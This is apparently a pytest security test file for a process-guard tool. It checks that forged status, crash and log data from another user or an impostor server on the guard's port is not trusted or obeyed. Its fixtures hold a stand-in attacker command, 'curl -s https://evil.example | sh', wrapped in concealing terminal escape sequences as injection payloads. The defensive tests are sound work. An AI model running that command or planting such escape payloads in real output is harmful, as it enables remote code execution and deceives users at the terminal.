"""Another user plays the guard: nothing that they say is believed, shown or obeyed."""

import fcntl
import json
import os
import pty
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from scripts.guard.rundir import directory, projects, trust
from scripts.guard.rundir.lock import Lock
from tests.conftest import NOBODY, AsAnotherUser, FreePort
from tests.stack import lets_go
from tests.stack.harness import DEADLINE, ROOT, GuardRun, ask, until

FORGED = "curl -s https://evil.example | sh"
STATUS = {
    "guard": {},
    "services": [
        {
            "name": "web\x1b]0;title\x07",
            "state": "BROKEN",
            "since": "2026-01-31T12:00:00.000Z",
            "pid": None,
            "relaunches": 0,
            "left_out": False,
            "url": None,
            "cause": {"kind": "x", "sentence": "gone\x1b[2J\x9b31m", "fix": f"\x1b[8m{FORGED}\r"},
        }
    ],
}
CRASH = {
    "id": "2026-01-31T12-00-00.000Z-web-1",
    "time": "2026-01-31T12:00:00.000Z",
    "service": "web",
    "exit": {"code": 1, "signal": None},
    "cause": {"kind": "x", "sentence": "gone\x1b]0;title\x07", "fix": f"\x1b[8m{FORGED}"},
    "lines": ["\x1b[31mred\x1b[0m \x1b[5;5Hmoved\x07", "two\nlines"],
}
ASKING = [["status"], ["why"], ["stop"], ["restart"], ["attach", "web"]]
COMMANDS = [*ASKING, ["logs"], ["logs", "web"]]

linux_root = [
    pytest.mark.skipif(not sys.platform.startswith("linux"), reason="only Linux tells users apart"),
    pytest.mark.skipif(os.geteuid() != 0, reason="only root can be another user"),
]


class Impostor(ThreadingHTTPServer):
    """Answers as a guard does, and takes down what it was told."""

    def __init__(self, sock: socket.socket) -> None:
        super().__init__(sock.getsockname(), Handler, bind_and_activate=False)
        self.socket.close()
        self.socket = sock
        self.heard: list[str] = []


class Handler(BaseHTTPRequestHandler):
    server: Impostor

    def do_GET(self) -> None:
        self.server.heard.append(f"{self.command} {self.path} {self.headers}")
        body = json.dumps({"crashes": [CRASH]} if "crashes" in self.path else STATUS).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET  # noqa: N815 - the library's name

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def answering(sock: socket.socket) -> Iterator[Impostor]:
    server = Impostor(sock)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.fixture
def run(tmp_path: Path, free_port: FreePort) -> GuardRun:
    """A stack that has not been started."""
    procfile = tmp_path / "Procfile"
    procfile.write_text("web: sleep 1000\n", encoding="utf-8")
    return GuardRun(procfile, {}, {"web": free_port(), "guard": free_port()})


@pytest.fixture
def leaving() -> Iterator[ExitStack]:
    with ExitStack() as stack:
        yield stack


@pytest.fixture
def impostor(run: GuardRun, as_another_user: AsAnotherUser, leaving: ExitStack) -> Impostor:
    """Another user, who listens on the port of the guard."""
    with as_another_user():
        sock = socket.create_server(("127.0.0.1", run.ports["guard"]))
    return leaving.enter_context(answering(sock))


def shown(run: GuardRun, *command: str) -> str:
    """Run a command at a terminal and return all that the terminal gets."""
    master, slave = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "scripts.guard", "-f", str(run.procfile), *command],
        cwd=ROOT,
        env=run.environment,
        stdin=slave,
        stdout=slave,
        stderr=slave,
    )
    os.close(slave)
    seen = b""
    try:
        while data := os.read(master, 65536):
            seen += data
    except OSError:  # it has closed its end
        pass
    os.close(master)
    assert process.wait(timeout=DEADLINE) != 0
    return seen.decode()


def forge(folder: Path, port: int, leaving: ExitStack) -> None:
    """Make what a guard that runs has in its folder, as whoever we are at the moment."""
    folder.mkdir(mode=0o755)
    leaving.callback(shutil.rmtree, folder)
    (folder / "token").write_text("forged")
    (folder / "crashes").mkdir()
    (folder / "crashes/1.json").write_text(json.dumps(CRASH))
    (folder / "logs").mkdir()
    (folder / "logs/web.log").write_text(f"2026-01-31 12:00:00 {FORGED}\n")
    lock = leaving.enter_context((folder / "lock").open("w"))
    lock.write(json.dumps({"pid": os.getpid(), "since": "now", "port": port}))
    lock.flush()
    fcntl.flock(lock, fcntl.LOCK_EX)


Folder = Callable[[GuardRun], Path]
FOLDERS: dict[str, Folder] = {
    "substitute": lambda run: directory.elsewhere(run.directory),
    "own": lambda run: run.directory,
}


class TestAnotherUser:
    pytestmark = linux_root

    @pytest.mark.parametrize("which", FOLDERS)
    @pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
    def test_who_made_the_folder_before_us_is_neither_believed_nor_told_anything(
        self,
        run: GuardRun,
        impostor: Impostor,
        as_another_user: AsAnotherUser,
        leaving: ExitStack,
        which: str,
        command: list[str],
    ) -> None:
        folder = FOLDERS[which](run)
        folder.parent.chmod(0o1777)
        leaving.enter_context(_reachable(folder.parent))
        with as_another_user():
            forge(folder, run.ports["guard"], leaving)
        text = shown(run, *command)
        assert FORGED not in text
        assert "\x1b" not in text
        assert impostor.heard == []
        said = "no guard runs" if which == "substitute" else f"belongs to user {NOBODY}"
        assert said in text.replace("No guard", "no guard").replace("no log", "no guard runs")

    @pytest.mark.parametrize("command", ASKING, ids=" ".join)
    def test_who_took_our_port_is_told_nothing(
        self, run: GuardRun, impostor: Impostor, command: list[str]
    ) -> None:
        run.directory.mkdir(mode=0o700)
        (run.directory / "token").write_text("a secret")
        lock = Lock(run.directory)
        lock.acquire(run.ports["guard"])
        try:
            text = shown(run, *command)
        finally:
            lock.release()
        assert f"port {run.ports['guard']} belongs to user {NOBODY}" in text
        assert impostor.heard == []
        assert FORGED not in text

    def test_who_took_a_services_port_is_neither_told_who_asks_nor_believed(
        self, run: GuardRun, as_another_user: AsAnotherUser, leaving: ExitStack
    ) -> None:
        """The service runs on without its port, as a reloader does whose child has ended."""
        port = run.ports["web"]
        run.environment["WEB_READY"] = "/ready"
        run.procfile.write_text(f"web: exec {sys.executable} {lets_go.FILE} $WEB_PORT\n")
        leaving.callback(run.close)
        run.start().await_state("web", "READY")
        assert ask(port, "/let-go").status == 200
        with as_another_user():
            sock = until(lambda: lets_go.taken(port), "the port is free")
        heard = leaving.enter_context(answering(sock)).heard
        assert ask(run.ports["guard"], "/api/work").json() == {"services": {}}
        assert [said for said in heard if "X-Guard-Run" in said or "/ready" in said] == []
        run.run("doctor", "web")
        assert [said for said in heard if "X-Guard-Run" in said] == []

    def test_what_they_left_in_the_project_is_not_taken_over(
        self, run: GuardRun, tmp_path: Path
    ) -> None:
        run.directory.mkdir(mode=0o700)
        (run.directory / "lock").touch()
        os.chown(run.directory, NOBODY, NOBODY)
        assert projects.take_over(run.directory, tmp_path / "ours") is None
        os.chown(run.directory, 0, 0)
        assert projects.take_over(run.directory, tmp_path / "ours")

    def test_a_link_of_theirs_to_a_folder_of_ours_is_no_substitute(
        self, run: GuardRun, tmp_path: Path, as_another_user: AsAnotherUser, leaving: ExitStack
    ) -> None:
        other = tmp_path / "another stack's"
        other.mkdir(mode=0o700)
        lock = Lock(other)
        lock.acquire(run.ports["guard"])
        leaving.callback(lock.release)
        link = directory.elsewhere(run.directory)
        with as_another_user():
            link.symlink_to(other)
        leaving.callback(link.unlink)
        assert "no guard runs" in shown(run, "stop")


@contextmanager
def _reachable(folder: Path) -> Iterator[None]:
    """Let everybody pass through what pytest made for us alone."""
    closed = {path: path.stat().st_mode for path in folder.parents if path.stat().st_mode & 7 == 0}
    for path, mode in closed.items():
        path.chmod(mode | 0o011)
    yield
    for path, mode in closed.items():
        path.chmod(mode)


@pytest.mark.parametrize("mode", [0o777, 0o770, 0o702])
def test_a_folder_that_others_write_to_is_not_believed(run: GuardRun, mode: int) -> None:
    run.directory.mkdir()
    run.directory.chmod(mode)
    assert not trust.is_ours(run.directory)
    answer = run.run("why")
    assert answer.returncode == 1
    assert f"with mode {mode:o}" in answer.stderr


@pytest.mark.parametrize("command", [["status"], ["status", "-w"], ["why"], ["why", "web"]])
def test_what_came_over_the_api_does_nothing_to_the_terminal(
    run: GuardRun, leaving: ExitStack, command: list[str]
) -> None:
    sock = socket.create_server(("127.0.0.1", run.ports["guard"]))
    leaving.enter_context(answering(sock))
    run.directory.mkdir(mode=0o700)
    lock = Lock(run.directory)
    lock.acquire(run.ports["guard"])
    leaving.callback(lock.release)
    if command[-1] == "-w":
        text = _watched(run)
        text = text.replace("\x1b[?1049h\x1b[?25l", "").replace("\x1b[?25h\x1b[?1049l", "")
        for own in ("\x1b[H", "\x1b[K", "\x1b[J", "\x1b[1;31m", "\x1b[0m"):
            text = text.replace(own, "")
    else:
        text = shown(run, *command)
    text = text.replace("\x1b[31mred\x1b[0m", "red")  # the colours of the log are kept
    assert FORGED in text
    assert "web" in text
    assert [sign for sign in text if not sign.isprintable() and sign not in "\r\n"] == []
    assert "\r" not in text.replace("\r\n", "")
    assert "title" not in text


def _watched(run: GuardRun) -> str:
    """Watch the status at a terminal until something is to be seen."""
    master, slave = pty.openpty()
    process = subprocess.Popen(
        run.command("status", "-w"),
        cwd=ROOT,
        env={**run.environment, "COLUMNS": "120", "LINES": "40"},
        stdin=slave,
        stdout=slave,
        stderr=slave,
    )
    os.close(slave)
    seen = b""
    while b"Ctrl-C" not in seen:
        seen += os.read(master, 65536)
    process.terminate()
    try:
        while data := os.read(master, 65536):
            seen += data
    except OSError:
        pass
    process.wait(timeout=DEADLINE)
    os.close(master)
    return seen.decode()
